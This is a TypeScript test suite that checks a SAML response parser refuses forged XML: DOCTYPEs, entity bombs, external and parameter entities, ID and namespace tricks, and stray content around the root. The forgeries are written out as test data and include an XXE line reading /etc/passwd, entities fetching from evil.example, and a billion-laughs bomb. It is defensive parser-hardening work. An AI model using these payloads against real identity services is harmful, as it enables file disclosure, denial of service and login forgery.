/** Document types, entities, and whatever stands around the root: whatever two parsers split differently is refused. */
import { describe, expect, test } from 'vitest';
import { GENUINE } from '../support/signed-response.ts';
import { outcomeOf } from '../support/verdict.ts';
import { type Attack, forged, genuineDocument, insertBefore, swap } from './forging.ts';

const END = '</samlp:Response>';

describe('document types and entities', () => {
  const BOMB = Array.from(
    { length: 10 },
    (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`,
  );
  const prefixed = (fragment: string) => (xml: string) => fragment + xml;

  test.each<Attack>([
    { does: 'an empty DOCTYPE', forge: prefixed('<!DOCTYPE x>'), refusedWith: 'xml_doctype_forbidden' },
    {
      does: 'one after an XML declaration',
      forge: prefixed('<?xml version="1.0"?>\n<!DOCTYPE x []>'),
      refusedWith: 'xml_doctype_forbidden',
    },
    {
      does: 'an entity bomb',
      forge: prefixed(`<!DOCTYPE x [<!ENTITY e0 "x">${BOMB.join('')}]>`),
      refusedWith: 'xml_doctype_forbidden',
    },
    {
      does: 'an external entity',
      forge: prefixed('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
      refusedWith: 'xml_doctype_forbidden',
    },
    {
      does: 'a parameter entity',
      forge: prefixed('<!DOCTYPE x [<!ENTITY % e SYSTEM "http://evil.example/">%e;]>'),
      refusedWith: 'xml_doctype_forbidden',
    },
    {
      does: 'an external subset',
      forge: prefixed('<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">'),
      refusedWith: 'xml_doctype_forbidden',
    },
    {
      does: 'a default ID',
      forge: prefixed('<!DOCTYPE x [<!ATTLIST saml:Assertion ID CDATA "_assertion1">]>'),
      refusedWith: 'xml_doctype_forbidden',
    },
    {
      does: 'a default namespace that makes a Signature',
      forge: prefixed(
        '<!DOCTYPE x [<!ATTLIST Signature xmlns CDATA #FIXED "http://www.w3.org/2000/09/xmldsig#">]>',
      ),
      refusedWith: 'xml_doctype_forbidden',
    },
    {
      does: 'one inside the root',
      forge: (xml) => insertBefore(xml, '<samlp:Status>', '<!DOCTYPE x>'),
      refusedWith: 'xml_doctype_forbidden',
    },
    {
      does: 'one after the root',
      forge: (xml) => `${xml}<!DOCTYPE x>`,
      refusedWith: 'xml_content_outside_root',
    },
    { does: 'one in lower case', forge: prefixed('<!doctype x>'), refusedWith: 'xml_content_outside_root' },
    {
      does: 'one that hides the document from a parser that believes a comment in it',
      forge: (xml) => `<!DOCTYPE x [<!-- ' --><!ENTITY e "']><x>">]>${xml}`,
      refusedWith: 'xml_doctype_forbidden',
    },
    {
      does: "an entity of one's own",
      forge: (xml) => swap(xml, GENUINE.nameId, '&admin;'),
      refusedWith: 'xml_entity_forbidden',
    },
    {
      does: 'an entity of HTML',
      forge: (xml) => swap(xml, GENUINE.nameId, 'alice&nbsp;'),
      refusedWith: 'xml_entity_forbidden',
    },
    {
      does: 'an ID by entity',
      forge: (xml) => swap(xml, `ID="${GENUINE.assertionId}"`, 'ID="&id;"'),
      refusedWith: 'xml_entity_forbidden',
    },
    {
      does: 'a reference without its semicolon',
      forge: (xml) => swap(xml, GENUINE.nameId, 'a&amp'),
      refusedWith: 'xml_entity_forbidden',
    },
    {
      does: 'a bare ampersand',
      forge: (xml) => swap(xml, GENUINE.nameId, 'a & b; c'),
      refusedWith: 'xml_entity_forbidden',
    },
    {
      does: 'an element declaration inside the root',
      forge: (xml) => insertBefore(xml, '<samlp:Status>', '<!ELEMENT x ANY>'),
      refusedWith: 'xml_malformed',
    },
    {
      does: 'a conditional section',
      forge: (xml) => insertBefore(xml, '<samlp:Status>', '<![INCLUDE[<x/>]]>'),
      refusedWith: 'xml_malformed',
    },
  ])('$does', async ({ forge, refusedWith }) => {
    expect(await outcomeOf(await forge(await genuineDocument()))).toBe(refusedWith);
  });

  test('an ID by numeric references is that ID, and nothing is gained by it', async () => {
    const document = swap(await genuineDocument(), `ID="${GENUINE.assertionId}"`, 'ID="&#95;assertion1"');
    expect(await outcomeOf(document)).toBe('accepted');
  });
});

describe('around the root', () => {
  test.each<[string, (xml: string) => string, string]>([
    ['a second root after it', (xml) => `${xml}${forged(xml)}`, 'xml_content_outside_root'],
    ['a second root before it', (xml) => `${forged(xml)}${xml}`, 'xml_content_outside_root'],
    ['text before it', (xml) => `x${xml}`, 'xml_content_outside_root'],
    ['text after it', (xml) => `${xml}x`, 'xml_content_outside_root'],
    ['a comment before it', (xml) => `<!---->${xml}`, 'xml_content_outside_root'],
    ['a comment after it', (xml) => `${xml}<!---->`, 'xml_content_outside_root'],
    ['CDATA before it', (xml) => `<![CDATA[]]>${xml}`, 'xml_content_outside_root'],
    [
      'a style sheet before it',
      (xml) => `<?xml-stylesheet href="x"?>${xml}`,
      'xml_processing_instruction_forbidden',
    ],
    ['a processing instruction after it', (xml) => `${xml}<?x?>`, 'xml_content_outside_root'],
    ['NUL after it', (xml) => `${xml}\0`, 'xml_forbidden_character'],
    ['an end tag too many', (xml) => `${xml}${END}`, 'xml_content_outside_root'],
    ['an end tag too few', (xml) => xml.replace(END, ''), 'xml_malformed'],
    ['another end tag', (xml) => xml.replace(END, '</samlp:response>'), 'xml_malformed'],
    ['nothing but an end tag', () => END, 'xml_malformed'],
  ])('%s', async (_, edit, refusedWith) => {
    expect(await outcomeOf(edit(await genuineDocument()))).toBe(refusedWith);
  });
});
